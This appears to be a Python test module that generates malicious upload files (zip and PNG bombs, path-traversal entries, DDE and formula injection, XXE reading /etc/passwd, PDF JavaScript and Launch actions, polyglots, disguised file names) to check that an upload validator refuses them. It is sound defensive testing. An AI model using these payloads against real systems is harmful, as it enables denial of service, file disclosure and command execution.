"""Bad files, one function each; the name of a function says what is bad about its file.

`BAD` tells, for each, the name it is sent under and the doors that may let it in: "attach" when it is harmless as a kept
file, "photo" when the picture alone is kept, "excel" and "sheet" when its rows are read right. Every other door must refuse it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from tests.factories import files

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
HEADINGS = ["Họ và tên", "Thôn", "Chính sách"]
ROW = ["Đỗ Mạnh Mẫu", "Đình Hạ", "Bò giống"]


@dataclass(frozen=True)
class Bad:
    """A bad file: who makes it, under which name it is sent, which doors may let it in."""

    make: Callable[[], bytes]
    name: str
    passes: frozenset[str]


BAD: dict[str, Bad] = {}


def bad(name: str, *passes: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Put the file of a function on the list."""

    def put(make: Callable[[], bytes]) -> Callable[[], bytes]:
        key = make.__name__
        assert key not in BAD
        BAD[key] = Bad(cache(make), name, frozenset(passes))
        return make

    return put


def again(key: str, name: str, make: Callable[[], bytes], *passes: str) -> None:
    """The same kind of badness in another file."""
    assert key not in BAD
    BAD[key] = Bad(cache(make), name, frozenset(passes))


def grown(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    """A sound package with further parts."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def swapped(data: bytes, name: str, part: str | bytes) -> bytes:
    """A sound package with another part in place of one."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    return files.package({**parts, name: part})


def document(body: str) -> bytes:
    return swapped(files.docx("a"), "word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")


def sheet(body: str, *, head: str = "") -> bytes:
    part = f"{head}<worksheet {S}>{body}</worksheet>"
    return swapped(files.xlsx(HEADINGS, ROW), "xl/worksheets/sheet1.xml", part)


# -- Packages that unfold, lie or break ------------------------------------------------------------------------------


@bad("bao-cao.docx")
def flat_bomb_in_a_document() -> bytes:
    return swapped(files.docx("a"), "word/document.xml", bytes(180_000_000))


@bad("bao-cao.docx")
def bomb_of_words() -> bytes:
    return document("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 4_000_000)


@bad("danh-sach.xlsx")
def bomb_of_shared_strings() -> bytes:
    return swapped(files.xlsx(HEADINGS, ROW), "xl/sharedStrings.xml", bytes(180_000_000))


@bad("long-nhau.docx")
def bomb_within_a_package() -> bytes:
    inner = files.package({"0.bin": bytes(50_000_000)})
    return grown(files.docx("a"), {f"word/embeddings/{number}.zip": inner for number in range(20)})


@bad("nhieu-phan.docx")
def five_thousand_parts() -> bytes:
    return grown(files.docx("a"), {f"word/x{number}.xml": "<a/>" for number in range(5000)})


@bad("noi-doi.docx")
def part_that_lies_about_its_size() -> bytes:
    data = bytearray(swapped(files.docx("a"), "word/document.xml", bytes(160_000_000)))
    for place in range(len(data) - 4):
        if data[place : place + 4] == struct.pack("<I", 160_000_000):
            data[place : place + 4] = struct.pack("<I", 100)
    return bytes(data)


@bad("hai-lan.docx")
def part_given_twice() -> bytes:
    out = io.BytesIO(files.docx("a"))
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr("word/document.xml", "<a/>")
    return out.getvalue()


@bad("leo-thang.docx")
def part_that_climbs_out() -> bytes:
    return grown(files.docx("a"), {"../../../etc/cron.d/x": "x"})


@bad("khoa.docx")
def parts_marked_as_locked() -> bytes:
    data = bytearray(files.docx("a"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


@bad("la.docx")
def unknown_way_of_packing() -> bytes:
    return files.docx("a").replace(b"\x08\x00", b"\x63\x00")


@bad("cut.docx")
def package_cut_short() -> bytes:
    return files.docx("a")[:1500]


@bad("rong.docx")
def package_without_parts() -> bytes:
    return files.package({})


@bad("gia.docx")
def any_zip_called_a_document() -> bytes:
    return files.package({"readme.txt": "x"})


again("workbook_called_a_document", "bang.docx", lambda: files.xlsx(HEADINGS, ROW), "excel", "sheet")
again("document_called_a_workbook", "van-ban.xlsx", lambda: files.docx("a"))
again("old_workbook_called_a_new_one", "cu.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
again("commas_called_a_workbook", "csv.xlsx", lambda: b"ho ten,thon\nMau,Dinh Ha\n")


# -- What acts by itself ---------------------------------------------------------------------------------------------

again("macros_renamed", "co-macro.docx", lambda: grown(files.docx("a"), {"word/vbaProject.bin": b"\xd0\xcf"}))
again("macros_in_a_workbook", "co-macro.xlsx", lambda: grown(files.xlsx(ROW), {"xl/vbaProject.bin": b"\xd0\xcf"}))
again("macro_sheet", "macro4.xlsx", lambda: grown(files.xlsx(ROW), {"xl/macrosheets/sheet1.xml": f"<x {S}/>"}))
again("activex", "activex.docx", lambda: grown(files.docx("a"), {"word/activeX/activeX1.bin": b"x"}))
again("ole_object", "ole.docx", lambda: grown(files.docx("a"), {"word/embeddings/oleObject1.bin": b"x"}))
again("program_inside", "exe.docx", lambda: grown(files.docx("a"), {"word/embeddings/setup.exe": b"MZ"}))
again("add_in", "addin.xlsx", lambda: grown(files.xlsx(ROW), {"xl/webextensions/webextension1.xml": "<a/>"}), "sheet")


@bad("kieu-macro.docx")
def declared_with_macros() -> bytes:
    with zipfile.ZipFile(io.BytesIO(files.docx("a"))) as package:
        types = package.read("[Content_Types].xml")
    return swapped(
        files.docx("a"), "[Content_Types].xml", types.replace(b"wordprocessingml.document.main", b"macroEnabled.main")
    )


@bad("mau-tu-xa.docx")
def template_from_elsewhere() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationships {R}><Relationship Id="a" Type="{kind}" Target="http://x/a.dotm" TargetMode="External"/></Relationships>'  # noqa: E501
    return grown(files.docx("a"), {"word/_rels/settings.xml.rels": link})


@bad("dde.docx")
def dde_in_a_document() -> bytes:
    return document(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    )


@bad("dde.xlsx", "excel", "sheet")
def dde_in_a_workbook() -> bytes:
    link = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return grown(files.xlsx(HEADINGS, ROW), {"xl/externalLinks/externalLink1.xml": link})


@bad("cong-thuc.xlsx", "attach", "excel", "sheet")
def cells_that_would_be_formulas() -> bytes:
    return files.xlsx(
        HEADINGS, ["=cmd|'/c calc'!A0", "Đình Hạ", '=HYPERLINK("http://x","bấm")'], ["+1+1", "Đình Hạ", "@SUM(1)"]
    )


@bad("lien-ket.xlsx", "attach", "excel", "sheet")
def cells_from_another_workbook() -> bytes:
    link = f"<externalLink {S}><externalBook/></externalLink>"
    return grown(files.xlsx(HEADINGS, ROW), {"xl/externalLinks/externalLink1.xml": link})


# -- XML with entities -----------------------------------------------------------------------------------------------

OUTSIDE = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
LONG = f"<!DOCTYPE a [<!ENTITY e '{'x' * 100_000}'>]>"


def with_entity(head: str, use: str) -> bytes:
    part = f"{head}<w:document {W}><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>"
    return swapped(files.docx("a"), "word/document.xml", part)


again("entity_from_outside", "xxe.docx", lambda: with_entity(OUTSIDE, "&e;"))
again("billion_laughs", "cuoi.docx", lambda: with_entity(LAUGHS, "&a9;"))
again("long_entity_many_times", "dai.docx", lambda: with_entity(LONG, "&e;" * 20_000))
again("entity_in_a_sheet", "xxe.xlsx", lambda: sheet("<sheetData/>", head=OUTSIDE))
again(
    "entity_in_strings",
    "xxe2.xlsx",
    lambda: swapped(files.xlsx(HEADINGS, ROW), "xl/sharedStrings.xml", f"{LAUGHS}<sst {S}/>"),
)
RELS = f'{OUTSIDE}<Relationships {R}><Relationship Id="a" Target="&e;"/></Relationships>'
again("entity_in_relations", "xxe3.docx", lambda: grown(files.docx("a"), {"word/_rels/footnotes.xml.rels": RELS}))


# -- Workbooks that span too much ------------------------------------------------------------------------------------


@bad("goc.xlsx", "attach")
def two_cells_at_opposite_corners() -> bytes:
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return sheet(f"<sheetData>{cells}</sheetData>")


@bad("mot-trieu.xlsx", "attach", "excel", "sheet")
def dimension_of_a_million_rows() -> bytes:
    with zipfile.ZipFile(io.BytesIO(files.xlsx(HEADINGS, ROW))) as package:
        part = package.read("xl/worksheets/sheet1.xml").decode()
    import re

    told = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', part)
    return swapped(files.xlsx(HEADINGS, ROW), "xl/worksheets/sheet1.xml", told)


@bad("hang-trong.xlsx", "attach")
def a_million_empty_rows() -> bytes:
    return sheet(f"<sheetData>{'<row/>' * 1_000_000}</sheetData>")


@bad("nhieu-trang.xlsx", "attach")
def fifty_sheets() -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        for number in range(50):
            book.add_worksheet(f"S{number}").write_string(0, 0, "a")
    return out.getvalue()


@bad("chu-ngoai.xlsx", "attach")
def string_that_is_not_there() -> bytes:
    return sheet('<sheetData><row r="1"><c r="A1" t="s"><v>999999</v></c></row></sheetData>')


# -- PDF -------------------------------------------------------------------------------------------------------------

JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
again("pdf_with_script_at_opening", "js.pdf", lambda: files.pdf("a", catalog="/OpenAction 100 0 R", objects={100: JS}))
again(
    "pdf_with_script_under_another_spelling",
    "js2.pdf",
    lambda: files.pdf("a", objects={100: "<< /S /#4aavaScript /#4a#53 (x) >>"}),
)
again("pdf_that_starts_programs", "launch.pdf", lambda: files.pdf("a", objects={100: "<< /S /Launch /F (cmd.exe) >>"}))
again("pdf_that_sends_data", "submit.pdf", lambda: files.pdf("a", objects={100: "<< /S /SubmitForm /F (http://x) >>"}))
again(
    "pdf_with_a_file_inside", "nhung.pdf", lambda: files.pdf("a", catalog="/Names << /EmbeddedFiles << /Names [] >> >>")
)
again("pdf_with_a_moving_form", "xfa.pdf", lambda: files.pdf("a", catalog="/AcroForm << /XFA (x) /Fields [] >>"))
again(
    "pdf_whose_pages_are_themselves",
    "vong.pdf",
    lambda: files.pdf("a", objects={2: "<< /Type /Pages /Count 1 /Kids [2 0 R] >>"}),
)
again("pdf_nested_without_end", "sau.pdf", lambda: files.pdf("a", objects={100: "[" * 100_000 + "]" * 100_000}))
again("pdf_cut_short", "cut.pdf", lambda: files.pdf("a")[:300])
again("pdf_of_a_header_alone", "dau.pdf", lambda: b"%PDF-1.7\n")
again("pdf_and_zip_at_once", "hai-mat.pdf", lambda: files.pdf("a") + files.package({"a.exe": "MZ"}))
again("html_called_a_pdf", "trang.pdf", lambda: b"<html><script>alert(1)</script>%PDF-1.7")


@bad("mat-khau.pdf")
def pdf_under_a_password() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(files.pdf("a")))
    writer.encrypt("mat khau", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@bad("bom.pdf")
def pdf_whose_objects_unfold() -> bytes:
    packed = zlib.compress(b"1 0 " + bytes(200_000_000), 9)
    body = f"<< /Type /ObjStm /N 1 /First 4 /Length {len(packed)} /Filter /FlateDecode >>\nstream\n{packed.decode('latin-1')}\nendstream"  # noqa: E501
    return files.pdf("a", objects={100: body}, catalog="/X 100 0 R").replace(b"/Pages 2 0 R", b"/Pages 100 0 R", 1)


@bad("lap.pdf", "attach")
def pdf_whose_table_leads_back_to_itself() -> bytes:
    data = files.pdf("a")
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", f"/Prev {start} /Size 0".encode())


# -- Pictures --------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, rows: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


again("png_of_20000_points", "rong.png", lambda: files.photo(20_000, 20, "PNG"))
again("jpeg_of_20000_points", "cao.jpg", lambda: files.photo(20, 20_000, "JPEG"))
again("png_that_says_it_is_huge", "ao.png", lambda: png(60_000, 60_000, rows=zlib.compress(b"x")))
again("png_of_fifty_million_points", "lon.png", lambda: png(7000, 7200, rows=zlib.compress(bytes(7200 * 21_001), 9)))
again(
    "png_whose_rows_unfold_beyond_its_size",
    "thua.png",
    lambda: png(4, 4, rows=zlib.compress(bytes(100_000_000), 9)),
    "attach",
    "photo",
)
again(
    "png_with_a_remark_that_unfolds",
    "chu.png",
    lambda: png(4, 4, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100_000_000))), rows=zlib.compress(bytes(52))),
)
again("png_cut_short", "cut.png", lambda: files.noise()[:4000])
again("jpeg_cut_short", "cut.jpg", lambda: files.photo()[:900])
again("jpeg_and_zip_at_once", "hai-mat.jpg", lambda: files.photo() + files.package({"a.exe": "MZ"}), "photo")
again(
    "png_with_a_page_behind_its_end",
    "duoi.png",
    lambda: files.photo(kind="PNG") + b"<script>alert(1)</script>",
    "photo",
)
again("gif_called_a_jpeg", "gia.jpg", lambda: b"GIF89a" + bytes(100))
again("svg_with_script", "hinh.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
again("svg_called_a_png", "hinh.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')

# -- Names, and nothing at all ---------------------------------------------------------------------------------------

again("program_called_a_paper", "van-ban.docx", lambda: b"MZ" + bytes(200))
again("program", "chay.exe", lambda: b"MZ" + bytes(200))
again("empty_pdf", "rong.pdf", lambda: b"")
again("empty_workbook", "rong.xlsx", lambda: b"")
again("empty_picture", "rong.jpg", lambda: b"")
again("name_written_backwards", "anh\u202efdp.exe", lambda: files.pdf("a"))
again("name_with_two_endings", "bao-cao.pdf.exe", lambda: files.pdf("a"))
again("name_in_pieces", "Ba\u0301o ca\u0301o.pdf", lambda: files.pdf("a"), "attach")
again("name_that_climbs", "../../../etc/passwd.pdf", lambda: files.pdf("a"), "attach")
again("name_with_lines", "a\r\nSet-Cookie: x=1.pdf", lambda: files.pdf("a"), "attach")
